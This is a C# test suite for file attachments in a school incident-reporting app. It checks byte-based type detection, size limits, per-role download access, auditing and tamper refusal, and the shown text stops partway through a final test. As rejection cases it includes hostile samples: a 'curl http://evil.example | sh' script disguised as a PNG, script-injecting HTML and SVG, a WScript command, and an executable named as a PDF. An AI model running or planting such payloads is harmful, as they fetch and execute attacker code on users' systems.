using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using AngleSharp.Dom;
using AngleSharp.Html.Dom;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http.Features;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using SafeUse.Features.Incidents;
using SafeUse.Features.People;
using SafeUse.Platform.Data;
using SafeUse.Tests.Infrastructure;
using Shouldly;
using Xunit;

namespace SafeUse.Tests.Incidents;

/// <summary>Files on reports and incident records: what is accepted, where it is kept, and who can download it, on both databases.</summary>
public sealed class AttachmentTests
{
    private static readonly Dictionary<string, string?> NoScheduler = new() { ["SafeUse:RunScheduler"] = "false" };

    private const string NotAccepted = ": SafeUse accepts PDF, images, Word/Excel/PowerPoint and text files; this file's contents are not one of those";

    /// <summary>A PNG's signature and header chunk, then bytes that make each one different.</summary>
    private static byte[] Png(int length = 300, byte fill = 7)
    {
        byte[] head = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, (byte)'I', (byte)'H', (byte)'D', (byte)'R'];
        var bytes = new byte[length];
        head.CopyTo(bytes, 0);
        for (var i = head.Length; i < length; i++)
        {
            bytes[i] = (byte)(fill + i);
        }

        return bytes;
    }

    private static byte[] Pdf() => Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A Word package as Word writes one: [Content_Types].xml and the word/ folder.</summary>
    private static byte[] Docx()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in new[] { ("[Content_Types].xml", "<Types/>"), ("_rels/.rels", "<Relationships/>"), ("word/document.xml", "<w:document/>") })
            {
                using var w = new StreamWriter(zip.CreateEntry(name).Open());
                w.Write(text);
            }
        }

        return buffer.ToArray();
    }

    /// <summary>A Windows executable's first bytes (the MZ header and its NULs).</summary>
    private static byte[] Exe()
    {
        var bytes = new byte[512];
        bytes[0] = (byte)'M';
        bytes[1] = (byte)'Z';
        bytes[0x3C] = 0x80;
        Encoding.ASCII.GetBytes("This program cannot be run in DOS mode.").CopyTo(bytes, 0x4E);
        return bytes;
    }

    private static async Task<Browser> SignedInAsync(AppFactory app, string email)
    {
        var b = app.Browse();
        await b.SignInAsync(email, Seed.Password);
        return b;
    }

    /// <summary>The kind's report form, after choosing the kind on the first page.</summary>
    private static async Task<Browser.Page> FormAsync(Browser b, string kind) =>
        await b.SubmitAsync(await b.GetAsync("/report"), new Dictionary<string, string> { ["Kind"] = kind });

    /// <summary>
    /// Posts a page's form as multipart with any files, each with the content type a browser (or an attacker) claims:
    /// what a crafted request sends whether or not the form offered a file field.
    /// </summary>
    private static Task<Browser.Page> PostFilesAsync(Browser b, Browser.Page page, string formSelector, Dictionary<string, string> fields, params (string Name, byte[] Bytes, string ContentType)[] files) =>
        PostFilesToAsync(b, page, formSelector, null, fields, files);

    /// <summary>As <see cref="PostFilesAsync"/>, to <paramref name="url"/> instead of the form's own address (with its antiforgery token).</summary>
    private static async Task<Browser.Page> PostFilesToAsync(Browser b, Browser.Page page, string formSelector, string? url, Dictionary<string, string> fields, params (string Name, byte[] Bytes, string ContentType)[] files)
    {
        var form = page.Document.QuerySelector<IHtmlFormElement>(formSelector) ?? throw new InvalidOperationException($"No form {formSelector} on {page.Url}");
        var values = form.Elements.OfType<IHtmlInputElement>().Where(i => i.Type is "hidden" or "text" && i.Name is { Length: > 0 }).Select(i => (Key: i.Name!, i.Value)).ToList();
        values.RemoveAll(v => fields.ContainsKey(v.Key));
        var content = new MultipartFormDataContent();
        foreach (var (k, v) in values.Concat(fields.Select(f => (f.Key, f.Value))).ToList())
        {
            content.Add(new StringContent(v), k);
        }

        foreach (var (name, bytes, type) in files)
        {
            var part = new ByteArrayContent(bytes);
            part.Headers.ContentType = MediaTypeHeaderValue.Parse(type);
            content.Add(part, "Files", name);
        }

        var action = form.GetAttribute("action");
        var target = url ?? (string.IsNullOrEmpty(action) ? page.Url : new Uri(new Uri(page.Url, UriKind.Absolute), action).ToString());
        return await Browser.Page.ReadAsync(await b.Client.PostAsync(target, content));
    }

    private static string[] StoredFiles(TestDatabase db)
    {
        var folder = Path.Combine(db.DataDirectory, "attachments");
        return Directory.Exists(folder) ? Directory.GetFiles(folder) : [];
    }

    private static string Id(long id) => id.ToString(CultureInfo.InvariantCulture);

    private static readonly Dictionary<string, string> AccidentalAccess = new() { ["WhatHappened"] = "A pupil's search showed a violent image." };

    [Theory, BothDatabases]
    internal async Task A_png_sent_with_a_report_is_kept_under_the_data_directory_and_a_handler_downloads_it_byte_for_byte_as_an_attachment(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        var form = await FormAsync(teacher, ReportKinds.AccidentalAccess);
        form.Document.QuerySelector("input#Files[type=file]").ShouldNotBeNull();
        var png = Png();

        // The browser claims HTML for the image and a .txt for the text: the stored types are what the bytes are.
        var sent = await PostFilesAsync(teacher, form, "main form", AccidentalAccess,
            ("screen shot.png", png, "text/html"), ("pupil notes.txt", Encoding.UTF8.GetBytes("Searched for a cartoon at 10:05.\n"), "application/octet-stream"), ("minutes.docx", Docx(), "application/octet-stream"));
        sent.Errors.ShouldBeEmpty();
        sent.Url.ShouldEndWith("/reports/mine");
        sent.Document.QuerySelector("#my-reports .my-report-files")!.TextContent.ShouldBe("screen shot.png, pupil notes.txt, minutes.docx");

        // Kept under the data directory, under random names, never the sender's, and nowhere near the web root.
        var stored = StoredFiles(db);
        stored.Length.ShouldBe(3);
        var webRoot = app.Services.GetRequiredService<IWebHostEnvironment>().WebRootPath;
        foreach (var path in stored)
        {
            Path.GetFullPath(path).ShouldStartWith(Path.GetFullPath(Path.Combine(db.DataDirectory, "attachments")));
            if (!string.IsNullOrEmpty(webRoot))
            {
                Path.GetFullPath(path).ShouldNotStartWith(Path.GetFullPath(webRoot));
            }

            Path.GetFileName(path).ShouldMatch("^[0-9a-f]{32}$");
        }

        stored.Select(File.ReadAllBytes).ShouldContain(bytes => bytes.SequenceEqual(png));
        await using (var check = db.Context())
        {
            (await check.IncidentAttachments.OrderBy(a => a.Id).Select(a => a.ContentType).ToListAsync())
                .ShouldBe(["image/png", "text/plain", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"]);
            var emails = await check.Outbox.ToListAsync();
            emails.ShouldNotBeEmpty();
            emails.ShouldAllBe(e => !e.Body.Contains("screen shot") && !e.Subject.Contains("screen shot") && !e.Body.Contains("minutes"));
        }

        var digital = await SignedInAsync(app, w.Digital.Email!);
        var id = (await db.Context().Incidents.SingleAsync()).Id;
        var page = await digital.GetAsync($"/incidents/{id}");
        var row = page.Document.QuerySelectorAll("#attachments tbody tr").First();
        row.TextContent.ShouldContain("screen shot.png");
        row.TextContent.ShouldContain("PNG image");
        row.TextContent.ShouldContain("300 bytes");
        row.TextContent.ShouldContain("Tia Teach");
        page.Document.QuerySelector("#attachments")!.TextContent.ShouldContain("Word document");
        var link = row.QuerySelector("a")!.GetAttribute("href")!;

        var response = await digital.Client.GetAsync(link);
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await response.Content.ReadAsByteArrayAsync()).ShouldBe(png);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("image/png");
        response.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        response.Content.Headers.ContentDisposition.FileNameStar.ShouldBe("screen shot.png");
        response.Headers.GetValues("X-Content-Type-Options").ShouldBe(["nosniff"]);
        response.Headers.GetValues("Content-Security-Policy").Single().ShouldStartWith("sandbox");
        response.Headers.CacheControl!.NoStore.ShouldBeTrue();
    }

    [Theory, BothDatabases]
    internal async Task A_handler_adds_a_file_to_the_record_as_an_entry_and_the_reporter_never_sees_it(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        (await teacher.SubmitAsync(await FormAsync(teacher, ReportKinds.AccidentalAccess), AccidentalAccess)).Errors.ShouldBeEmpty();
        var id = (await db.Context().Incidents.SingleAsync()).Id;

        var dsl = await SignedInAsync(app, w.Dsl.Email!);
        var page = await dsl.GetAsync($"/incidents/{id}");
        page.Document.QuerySelector("#no-attachments").ShouldNotBeNull();
        var empty = await dsl.SubmitAsync(page, new Dictionary<string, string>(), "#attach-form");
        empty.Errors.ShouldContain("Choose a file to add");
        page = await dsl.SubmitAsync(page, new Dictionary<string, string> { ["Text"] = "Filter log for the morning." }, "#attach-form",
            files: new Dictionary<string, (string, byte[])> { ["Files"] = ("filter-log.pdf", Pdf()) });
        page.Url.ShouldEndWith($"/incidents/{id}");
        page.Document.QuerySelector("#attachments")!.TextContent.ShouldContain("filter-log.pdf");
        page.Document.QuerySelector("#attachments")!.TextContent.ShouldContain("Dev Safe");
        page.Document.QuerySelector("#entries")!.TextContent.ShouldContain("Filter log for the morning.");
        page.Document.QuerySelector("#entries")!.TextContent.ShouldContain("Files added");
        (await db.Context().IncidentEntries.CountAsync(e => e.Type == EntryTypes.Attachment)).ShouldBe(1);

        var mine = await teacher.GetAsync("/reports/mine");
        mine.Text.ShouldNotContain("filter-log");
        (await teacher.GetAsync($"/incidents/{id}/files/{(await db.Context().IncidentAttachments.SingleAsync()).Id}")).Status.ShouldBe(HttpStatusCode.NotFound);
        (await db.Context().AuditEvents.SingleAsync(e => e.Action == "incident.attachment-added")).Summary.ShouldNotContain("filter-log");
    }

    [Theory, BothDatabases]
    internal async Task A_file_over_20_MB_is_refused_with_its_name_and_size_no_incident_is_created_and_the_answers_are_kept(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        var form = await FormAsync(teacher, ReportKinds.AccidentalAccess);

        var refused = await teacher.SubmitAsync(form, AccidentalAccess, files: new Dictionary<string, (string, byte[])> { ["Files"] = ("whole screen.png", Png(20 * 1024 * 1024 + 1)) });
        refused.Status.ShouldBe(HttpStatusCode.OK);
        refused.Errors.ShouldContain("whole screen.png is 20.0 MB (20,971,521 bytes): each file must be 20 MB or smaller");
        refused.Document.QuerySelector(".govuk-error-summary a[href='#Files']").ShouldNotBeNull();
        refused.Document.QuerySelector<IHtmlTextAreaElement>("#WhatHappened")!.Value.ShouldBe(AccidentalAccess["WhatHappened"]);
        (await db.Context().Incidents.CountAsync()).ShouldBe(0);
        (await db.Context().Outbox.CountAsync()).ShouldBe(0);
        StoredFiles(db).ShouldBeEmpty();

        // Exactly 20 MB is fine.
        (await teacher.SubmitAsync(form, AccidentalAccess, files: new Dictionary<string, (string, byte[])> { ["Files"] = ("whole screen.png", Png(20 * 1024 * 1024)) }))
            .Errors.ShouldBeEmpty();
        (await db.Context().IncidentAttachments.SingleAsync()).Size.ShouldBe(20 * 1024 * 1024);
    }

    [Theory, BothDatabases]
    internal async Task Files_whose_contents_are_not_an_accepted_type_are_refused_whatever_their_name_and_nothing_is_kept(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        var form = await FormAsync(teacher, ReportKinds.AccidentalAccess);

        var page = await PostFilesAsync(teacher, form, "main form", AccidentalAccess,
            ("invoice.pdf", Exe(), "application/pdf"),
            ("page.html", Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"), "text/html"),
            ("drawing.svg", Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"), "image/svg+xml"),
            ("holiday.png", Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://evil.example | sh\n"), "image/png"),
            ("photos.zip", ZipOf("photo.jpg"), "application/zip"));
        foreach (var name in new[] { "invoice.pdf", "page.html", "drawing.svg", "holiday.png", "photos.zip" })
        {
            page.Errors.ShouldContain(name + NotAccepted);
        }

        page.Document.QuerySelector<IHtmlTextAreaElement>("#WhatHappened")!.Value.ShouldBe(AccidentalAccess["WhatHappened"]);

        // Markup is refused under a text name too; a script named as text is refused by its name.
        page = await PostFilesAsync(teacher, form, "main form", AccidentalAccess,
            ("notes.txt", Encoding.UTF8.GetBytes("  <html><script>alert(1)</script></html>"), "text/plain"),
            ("run.js", Encoding.UTF8.GetBytes("WScript.Shell.Run('calc')"), "text/plain"),
            ("tiny.txt", [0x68, 0x69, 0x00, 0x21], "text/plain"));
        page.Errors.ShouldContain("notes.txt" + NotAccepted);
        page.Errors.ShouldContain("run.js" + NotAccepted);
        page.Errors.ShouldContain("tiny.txt" + NotAccepted);

        var six = Enumerable.Range(1, 6).Select(i => ($"shot{i}.png", Png(100, (byte)i), "image/png")).ToArray();
        (await PostFilesAsync(teacher, form, "main form", AccidentalAccess, six)).Errors.ShouldContain("Attach at most 5 files: you chose 6");

        (await db.Context().Incidents.CountAsync()).ShouldBe(0);
        StoredFiles(db).ShouldBeEmpty();
    }

    private static byte[] ZipOf(string name)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var s = zip.CreateEntry(name).Open();
            s.Write(new byte[4096]);
        }

        return buffer.ToArray();
    }

    [Theory, BothDatabases]
    internal async Task Suspected_illegal_content_refuses_files_even_from_a_crafted_post_and_says_why(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        var form = await FormAsync(teacher, ReportKinds.IllegalContent);
        form.Document.QuerySelector("input[type=file]").ShouldBeNull();
        var answers = new Dictionary<string, string>
        {
            ["WhatHappened"] = "A pupil showed me a video on a shared laptop.",
            ["Answers[location]"] = "Laptop LAP-12, locked in the head's office",
            ["Answers[secured-by]"] = "Tia Teach",
            ["Answers[secured-at]"] = "2026-11-23T08:30",
        };

        var refused = await PostFilesAsync(teacher, form, "main form", answers, ("evidence.png", Png(), "image/png"));
        refused.Errors.ShouldContain(AttachmentStore.IllegalContentRefusal);
        refused.Text.ShouldContain("copying the material could itself be an offence");
        (await db.Context().Incidents.CountAsync()).ShouldBe(0);
        StoredFiles(db).ShouldBeEmpty();

        // Without the file it is sent; the DSL cannot add one to the record either.
        (await teacher.SubmitAsync(form, answers)).Errors.ShouldBeEmpty();
        var id = (await db.Context().Incidents.SingleAsync()).Id;
        var dsl = await SignedInAsync(app, w.Dsl.Email!);
        var page = await dsl.GetAsync($"/incidents/{id}");
        page.Document.QuerySelector("#attach-form").ShouldBeNull();
        page.Document.QuerySelector("#files-refused")!.TextContent.ShouldBe(AttachmentStore.IllegalContentRefusal);
        (await dsl.GetAsync($"/incidents/{id}/attach")).Document.QuerySelector("#files-refused")!.TextContent.ShouldBe(AttachmentStore.IllegalContentRefusal);
        var crafted = await PostFilesToAsync(dsl, page, "form[action*='handler=Note']", $"/incidents/{id}/attach", new Dictionary<string, string>(), ("copy.png", Png(), "image/png"));
        crafted.Status.ShouldBe(HttpStatusCode.OK);
        crafted.Errors.ShouldContain(AttachmentStore.IllegalContentRefusal);
        (await db.Context().IncidentAttachments.CountAsync()).ShouldBe(0);
        StoredFiles(db).ShouldBeEmpty();
    }

    [Theory, BothDatabases]
    internal async Task A_kind_the_school_turned_files_off_for_refuses_them_with_a_clear_message(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using (var ctx = db.Context())
        {
            var accidental = ReportKinds.Find(ReportKinds.AccidentalAccess)!;
            var setting = IncidentService.Default(w.A.Id, accidental);
            setting.AttachmentsAllowed = false;
            ctx.ReportKindSettings.Add(setting);
            await ctx.SaveChangesAsync();
        }

        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        var form = await FormAsync(teacher, ReportKinds.AccidentalAccess);
        form.Document.QuerySelector("input[type=file]").ShouldBeNull();
        form.Document.QuerySelector("#no-files")!.TextContent.ShouldContain("Files cannot be attached to this kind of report at Alder School");
        var refused = await PostFilesAsync(teacher, form, "main form", AccidentalAccess, ("shot.png", Png(), "image/png"));
        refused.Errors.ShouldContain("Files cannot be attached to “Accidental access to inappropriate material” at this school: your school has turned them off for this kind of report. Describe it in words instead.");
        (await db.Context().Incidents.CountAsync()).ShouldBe(0);

        // Birch keeps the shipped setting: the same kind takes files there.
        var birch = await SignedInAsync(app, w.BirchTeacher.Email!);
        (await PostFilesAsync(birch, await FormAsync(birch, ReportKinds.AccidentalAccess), "main form", AccidentalAccess, ("shot.png", Png(), "image/png"))).Errors.ShouldBeEmpty();
        (await db.Context().IncidentAttachments.CountAsync()).ShouldBe(1);
    }

    [Theory, BothDatabases]
    internal async Task A_file_is_not_found_by_another_schools_administrator_the_subject_a_colleague_or_anyone_signed_out(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        Person birchAdmin;
        await using (var ctx = db.Context())
        {
            birchAdmin = await Seed.PersonAsync(ctx, w.Trust, w.B, "Bo", "Admin", (Role.Administrator, w.B));
        }

        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        var form = await FormAsync(teacher, ReportKinds.OffensiveMessage);
        (await PostFilesAsync(teacher, form, "main form", new() { ["WhatHappened"] = "Threatening chat message.", ["Answers[channel]"] = "Staff chat", ["SubjectId"] = Id(w.ItLead.Id) },
            ("chat.png", Png(), "image/png"))).Errors.ShouldBeEmpty();
        var incident = await db.Context().Incidents.SingleAsync();
        var file = await db.Context().IncidentAttachments.SingleAsync();
        var url = $"/incidents/{incident.Id}/files/{file.Id}";

        (await (await SignedInAsync(app, w.Dsl.Email!)).Client.GetAsync(url)).StatusCode.ShouldBe(HttpStatusCode.OK);
        foreach (var shut in new[] { birchAdmin, w.Admin, w.ItLead, w.Manager, w.Teacher, w.BirchHead })
        {
            var b = await SignedInAsync(app, shut.Email!);
            var response = await b.GetAsync(url);
            response.Status.ShouldBe(HttpStatusCode.NotFound, shut.GivenName);
            response.Heading.ShouldBe("Page not found", shut.GivenName);
            (await b.GetAsync($"/incidents/{incident.Id}/attach")).Status.ShouldBe(HttpStatusCode.NotFound, shut.GivenName);
        }

        // A file id under an incident it does not belong to is not found either, even by a recipient.
        (await (await SignedInAsync(app, w.Dsl.Email!)).GetAsync($"/incidents/{incident.Id}/files/{file.Id + 1}")).Status.ShouldBe(HttpStatusCode.NotFound);
        var anonymous = await app.Browse().GetAsync(url);
        anonymous.Url.ShouldContain("/account/sign-in");
        anonymous.Html.ShouldNotContain("IHDR");
    }

    [Theory, BothDatabases]
    internal async Task A_restricted_records_file_reaches_only_the_case_manager_and_the_DSL_and_every_download_is_audited(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using (var ctx = db.Context())
        {
            var setting = IncidentService.Default(w.A.Id, ReportKinds.Find(ReportKinds.StaffConduct)!);
            setting.AttachmentsAllowed = true;
            ctx.ReportKindSettings.Add(setting);
            await ctx.SaveChangesAsync();
        }

        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        var form = await FormAsync(teacher, ReportKinds.StaffConduct);
        (await PostFilesAsync(teacher, form, "main form", new() { ["WhatHappened"] = "Messaged a pupil on a personal account.", ["SubjectId"] = Id(w.Manager.Id) },
            ("messages.pdf", Pdf(), "application/pdf"))).Errors.ShouldBeEmpty();
        var incident = await db.Context().Incidents.SingleAsync();
        incident.Restricted.ShouldBeTrue();
        var url = $"/incidents/{incident.Id}/files/{(await db.Context().IncidentAttachments.SingleAsync()).Id}";

        foreach (var allowed in new[] { w.Head, w.Dsl })
        {
            var response = await (await SignedInAsync(app, allowed.Email!)).Client.GetAsync(url);
            response.StatusCode.ShouldBe(HttpStatusCode.OK, allowed.GivenName);
            (await response.Content.ReadAsByteArrayAsync()).ShouldBe(Pdf());
        }

        foreach (var shut in new[] { w.Manager, w.Admin, w.Digital, w.Teacher })
        {
            (await (await SignedInAsync(app, shut.Email!)).GetAsync(url)).Status.ShouldBe(HttpStatusCode.NotFound, shut.GivenName);
        }

        await using var audit = db.Context();
        (await audit.AuditEvents.Where(e => e.Action == "incident.attachment-downloaded" && e.EntityId == Id(incident.Id)).Select(e => e.ActorPersonId).ToListAsync())
            .ShouldBe([w.Head.Id, w.Dsl.Id], ignoreOrder: true);
    }

    [Theory, BothDatabases]
    internal async Task A_file_changed_or_removed_on_disk_is_refused_on_download_and_audited(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        (await PostFilesAsync(teacher, await FormAsync(teacher, ReportKinds.AccidentalAccess), "main form", AccidentalAccess,
            ("first.png", Png(fill: 1), "image/png"), ("second.png", Png(fill: 2), "image/png"))).Errors.ShouldBeEmpty();
        var incident = await db.Context().Incidents.SingleAsync();
        var files = await db.Context().IncidentAttachments.OrderBy(a => a.Id).ToListAsync();
        var folder = Path.Combine(db.DataDirectory, "attachments");

        // Same length, one byte different: only the SHA-256 tells.
        var first = Path.Combine(folder, files[0].StoredName);
        var bytes = await File.ReadAllBytesAsync(first);
        bytes[^1] ^= 0xFF;
        await File.WriteAllBytesAsync(first, bytes);
        File.Delete(Path.Combine(folder, files[1].StoredName));

        var digital = await SignedInAsync(app, w.Digital.Email!);
        foreach (var f in files)
        {
            var refused = await digital.GetAsync($"/incidents/{incident.Id}/files/{f.Id}");
            refused.Status.ShouldBe(HttpStatusCode.Conflict);
            refused.Heading.ShouldBe("This file cannot be opened");
            refused.Document.QuerySelector("#file-refused")!.TextContent.ShouldContain($"The stored copy of {f.FileName} is missing or no longer matches the file that was attached");
            refused.Html.ShouldNotContain("IHDR");
        }

        (await db.Context().AuditEvents.CountAsync(e => e.Action == "incident.attachment-refused" && e.EntityId == Id(incident.Id))).ShouldBe(2);
    }

    [Theory, BothDatabases]
    internal async Task Attachment_rows_cannot_be_changed_or_deleted_even_by_sql(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        (await PostFilesAsync(teacher, await FormAsync(teacher, ReportKinds.AccidentalAccess), "main form", AccidentalAccess, ("shot.png", Png(), "image/png"))).Errors.ShouldBeEmpty();
        var file = await db.Context().IncidentAttachments.SingleAsync();

        await using var ctx = db.Context();
        await Should.ThrowAsync<Exception>(() => ctx.Database.ExecuteSqlAsync($"UPDATE incident_attachment SET sha256 = 'forged' WHERE id = {file.Id}"));
        await Should.ThrowAsync<Exception>(() => ctx.Database.ExecuteSqlAsync($"DELETE FROM incident_attachment WHERE id = {file.Id}"));
        (await db.Context().IncidentAttachments.SingleAsync()).Sha256.ShouldBe(file.Sha256);
    }

    [Theory, BothDatabases]
    internal async Task When_saving_the_report_fails_its_files_are_removed_and_nothing_is_recorded(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using (var ctx = db.Context())
        {
            // Stands in for the database failing part-way through the report's transaction.
            await ctx.Database.ExecuteSqlRawAsync(kind == DatabaseProviderKind.Postgres
                ? "CREATE FUNCTION test_refuse_attachment() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'refused for the test'; END; $$;"
                  + " CREATE TRIGGER test_refuse_attachment BEFORE INSERT ON incident_attachment FOR EACH ROW EXECUTE FUNCTION test_refuse_attachment();"
                : "CREATE TRIGGER test_refuse_attachment BEFORE INSERT ON incident_attachment BEGIN SELECT RAISE(ABORT, 'refused for the test'); END;");
        }

        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        var teacher = await SignedInAsync(app, w.Teacher.Email!);
        var failed = await PostFilesAsync(teacher, await FormAsync(teacher, ReportKinds.AccidentalAccess), "main form", AccidentalAccess, ("shot.png", Png(), "image/png"), ("notes.txt", "Seen at 10:05"u8.ToArray(), "text/plain"));
        failed.Status.ShouldBe(HttpStatusCode.InternalServerError);
        failed.Text.ShouldNotContain("refused for the test");
        (await db.Context().Incidents.CountAsync()).ShouldBe(0);
        (await db.Context().IncidentEntries.CountAsync()).ShouldBe(0);
        (await db.Context().Outbox.CountAsync()).ShouldBe(0);
        StoredFiles(db).ShouldBeEmpty();
    }

    [Theory, BothDatabases]
    internal async Task On_kestrel_two_large_files_arrive_together_and_a_post_over_the_upload_limit_gets_a_page_saying_so(DatabaseProviderKind kind)
    {
        using var db = await TestDatabase.Create(kind).MigrateAsync();
        var w = await IncidentWorld.CreateAsync(db);
        await using var app = new AppFactory(db, new FakeTime(), NoScheduler);
        app.UseKestrel(0);
        app.StartServer();
        var address = app.Services.GetRequiredService<IServer>().Features.GetRequiredFeature<IServerAddressesFeature>().Addresses.First();
        var teacher = new Browser(app.CreateClient(new WebApplicationFactoryClientOptions { BaseAddress = new Uri(address), AllowAutoRedirect = true, HandleCookies = true }));
        await teacher.SignInAsync(w.Teacher.Email!, Seed.Password);
        var form = await FormAsync(teacher, ReportKinds.AccidentalAccess);

        // 35 MB in one request, more than Kestrel's default 30,000,000 bytes: the upload pages raise it.
        var sent = await PostFilesAsync(teacher, form, "main form", AccidentalAccess,
            ("first.png", Png(20 * 1024 * 1024, 1), "image/png"), ("second.png", Png(15 * 1024 * 1024, 2), "image/png"));
        sent.Errors.ShouldBeEmpty();
        sent.Url.ShouldEndWith("/reports/mine");
        (await db.Context().IncidentAttachments.SumAsync(a => a.Size)).ShouldBe(35 * 1024 * 1024);

        var token = form.Document.QuerySelector<IHtmlInputElement>("input[name=__RequestVerificationToken]")!.Value;
        var tooLarge = new MultipartFormDataContent
        {
            { new StringContent(token), "__RequestVerificationToken" },
            { new ZeroContent(AttachmentStore.MaxRequestBytes), "Files", "huge.png" },
        };
        var refused = await Browser.Page.ReadAsync(await teacher.Client.PostAsync(form.Url, tooLarge));
        refused.Status.ShouldBe(HttpStatusCode.RequestEntityTooLarge, refused.Url + " " + refused.Heading + " " + refused.Text[..Math.Min(600, refused.Text.Length)]);
        refused.Heading.ShouldBe("Those files are too large");
        (await db.Context().Incidents.CountAsync()).ShouldBe(1);
    }

    /// <summary>A body of zeros of a given length, written as it is sent rather than held in memory.</summary>
    private sealed class ZeroContent(long length) : HttpContent
    {
        protected override async Task SerializeToStreamAsync(Stream stream, System.Net.TransportContext? context)
        {
            var chunk = new byte[81920];
            for (var left = length; left > 0; left -= chunk.Length)
            {
                await stream.WriteAsync(chunk.AsMemory(0, (int)Math.Min(chunk.Length, left)));
            }
        }

        protected override bool TryComputeLength(out long size)
        {
            size = length;
            return true;
        }
    }

    private static byte[] Package(params string[] names)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var name in names)
            {
                using var w = new StreamWriter(zip.CreateEntry(name).Open());
                w.Write("<x/>");
            }
        }

        return buffer.ToArray();
    }

    [Fact]
    public async Task Each_accepted_type_is_recognised_by_its_bytes_whatever_it_is_called()
    {
        var cases = new (string Name, byte[] Bytes, string? Expected)[]
        {
            ("photo", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, (byte)'J', (byte)'F', (byte)'I', (byte)'F'], "image/jpeg"),
            ("anim.gif", "GIF89a\x01\x00\x01\x00"u8.ToArray(), "image/gif"),
            ("pic.webp", [.. "RIFF"u8, 36, 0, 0, 0, .. "WEBPVP8 "u8], "image/webp"),
            ("budget.xlsx", Package("[Content_Types].xml", "xl/workbook.xml"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
            ("slides.pptx", Package("[Content_Types].xml", "ppt/presentation.xml"), "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
            ("message.eml", "From: parent@example.com\r\nSubject: Chat\r\n\r\nSee below.\r\n"u8.ToArray(), "text/plain"),
            ("café notes.txt", Encoding.UTF8.GetBytes("\uFEFFNotes: naïve café, 10:05\n"), "text/plain"),
            ("macro.docm", Package("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"), null),
            ("no types.docx", Package("word/document.xml"), null),
            ("latin1.txt", [0x63, 0x61, 0x66, 0xE9], null),
            ("page.htm", "\n\n  <!doctype html><p>hi"u8.ToArray(), null),
            ("truncated.docx", [0x50, 0x4B, 0x03, 0x04, 1, 2, 3], null),
        };
        foreach (var (name, bytes, expected) in cases)
        {
            using var stream = new MemoryStream(bytes);
